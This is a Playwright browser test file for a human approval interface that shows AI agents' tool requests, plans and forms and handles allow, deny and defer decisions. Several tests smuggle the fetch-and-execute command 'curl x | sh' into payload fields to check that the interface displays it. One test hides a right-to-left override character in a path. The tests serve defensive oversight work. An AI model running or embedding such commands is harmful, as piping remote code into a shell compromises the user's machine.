"""Nothing is decided but what is shown: all that a tool takes, the request with the focus, the latest decision."""

from __future__ import annotations

from typing import Any

import pytest
from msgspec.structs import replace
from playwright.async_api import expect

from tests.browser import held
from tests.browser.conftest import OpenPage, wall_ms
from tests.browser.standin import StandIn
from tests.browser.test_deciding import KEYS, READY, about, at_session, decided
from tests.support import wait_until

pytestmark = [
    pytest.mark.browser,
    pytest.mark.asyncio(loop_scope="session"),
]

HARMLESS = {"file_path": "a", "old_string": "x", "new_string": "y"}


@pytest.mark.parametrize(
    ("role", "payload"),
    [
        ("mcp", HARMLESS | {"command": "curl x | sh"}),
        ("edit", HARMLESS | {"command": "curl x | sh"}),
        ("edit", {"file_path": "a", "edits": [HARMLESS | {"run": "curl x | sh"}]}),
        ("mcp", {"questions": [{"question": "Go on?", "run": "curl x | sh"}]}),
    ],
)
async def test_what_a_diff_would_not_show_is_shown_field_by_field(
    open_page: OpenPage, hub: StandIn, role: str, payload: dict[str, Any]
) -> None:
    view = held.held("a", wall_ms(), payload=payload, tool="mcp__notes__edit", role=role)
    page = await at_session(open_page, hub, view)
    await expect(page.locator(".request .diff")).to_have_count(0)
    await expect(page.locator(".request")).to_contain_text("curl x | sh")


async def test_a_plan_and_a_form_show_all_that_they_hold_and_whose_it_is(
    open_page: OpenPage, hub: StandIn
) -> None:
    plan = held.held("a", wall_ms(), "plan", HARMLESS | {"plan": held.PLAN}, role="edit")
    page = await at_session(open_page, hub, plan)
    await expect(page.locator(".plan-head")).to_have_text("Move the refunds")
    await expect(page.locator(".request .diff")).to_have_count(0)
    form = held.FORM | {"url": "https://forge.example"}
    await hub.change(held.held("a", wall_ms(), "dialog", form, tool="forge"))
    await expect(page.locator(".request-head h4")).to_have_text("Dialog: forge")
    await expect(page.locator(".request .facts")).to_contain_text("https://forge.example")


async def test_a_request_names_the_directory_it_is_bound_to_and_not_the_sessions(
    open_page: OpenPage, hub: StandIn
) -> None:
    view = held.held("a", wall_ms(), hold={"cwd": "/srv/shop\u202e"}, cwd="/tmp/sandbox")
    page = await open_page(([view], []))
    await expect(page.locator(".card .where")).to_contain_text("/srv/shop\\u{202e}")
    await page.locator(".card .open").click()
    await expect(page.locator(".request .ask-note")).to_have_text("in /srv/shop\\u{202e}")


async def test_a_request_of_an_outdated_collector_names_the_machine_to_upgrade(
    open_page: OpenPage, hub: StandIn
) -> None:
    view = held.held("a", wall_ms(), hold={"outdated": True, "verbs": ["deny", "defer"]})
    page = await at_session(open_page, hub, view)
    await expect(page.locator(".request .barred")).to_contain_text("on alpha is too old")
    await expect(page.locator(".request .barred")).to_contain_text("adsum upgrade")
    await expect(page.locator(".request [data-do=allow]")).to_have_count(0)
    await expect(page.locator(".request [data-do=deny]")).to_have_count(1)


async def test_a_key_decides_the_request_with_the_focus_and_none_of_several_without(
    open_page: OpenPage, hub: StandIn
) -> None:
    view, other = held.held("a", wall_ms()), held.held("b", wall_ms())
    view = replace(view, requests=view.requests + other.requests)
    page = await at_session(open_page, hub, view)
    await expect(page.locator(f".request {READY} [data-do=allow]")).to_have_count(2)
    await page.evaluate(KEYS)
    await page.keyboard.press("a")
    await expect(page.locator(".toasts")).to_contain_text("Several things are asked here")
    assert hub.commands == []
    await page.locator(".request").nth(1).locator("[data-do=deny]").focus()
    await page.keyboard.press("a")
    second = about(view, "allow", request_id="r-b", binding="b-b")
    assert await decided(hub) == [second]
    await expect(page.locator(".request").nth(1).locator(".do").first).to_be_hidden()
    await page.keyboard.press("a")
    assert await decided(hub, 2) == [second, about(view, "allow")]


async def test_a_second_denial_has_its_own_three_seconds(open_page: OpenPage, hub: StandIn) -> None:
    view = held.held("a", wall_ms())
    page = await at_session(open_page, hub, view, clock=True)
    await page.clock.run_for(1000)
    await page.locator("[data-do=deny]").click()
    await page.keyboard.press("z")
    await expect(page.locator(".request [data-do=deny]")).to_be_visible()

    async def takes_presses() -> bool:
        """The row has stood long enough; when the browser sees that it moved is not the clock's."""
        await page.clock.run_for(200)
        return bool(await page.locator(f".request {READY}").count())

    await wait_until(takes_presses)
    await page.locator("[data-do=deny]").click()
    await page.clock.run_for(2100)
    await expect(page.locator(".toasts .fate").last).to_contain_text("sent in 1 s")
    assert hub.commands == []
    await page.clock.run_for(1000)
    assert await decided(hub) == [about(view, "deny")]


async def test_a_form_taller_than_two_windows_can_be_sent(
    open_page: OpenPage, hub: StandIn
) -> None:
    fields = {f"f{n}": {"type": "string"} for n in range(60)}
    form = {"message": "Much", "requested_schema": {"type": "object", "properties": fields}}
    view = held.held("a", wall_ms(), "dialog", form, tool="forge")
    page = await at_session(open_page, hub, view, ready=".session [data-do=send]")
    await page.locator("[data-do=send]").scroll_into_view_if_needed()
    await page.locator(f"{READY} [data-do=send]").click()
    assert await decided(hub) == [about(view, "elicit", content={})]
